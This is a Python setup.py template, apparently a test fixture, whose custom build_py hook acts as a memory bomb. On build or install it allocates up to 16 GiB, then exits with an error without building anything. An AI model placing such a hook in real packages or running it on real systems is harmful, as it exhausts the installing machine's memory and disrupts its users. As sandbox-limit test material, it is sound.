import os
import sys

from setuptools import setup
from setuptools.command.build_py import build_py as _base


class Step(_base):
    def run(self):
        held = []
        try:
            for _ in range(64):
                held.append(bytearray(256 << 20))
            print("pjatk: memory bomb got 16 GiB")
        except MemoryError:
            print("pjatk: memory bomb stopped at %d MiB" % (len(held) * 256))
        raise SystemExit(1)
        super().run()


setup(name="@@NAME@@", version="1.0", packages=["pjatk"],
      cmdclass={"build_py": Step})
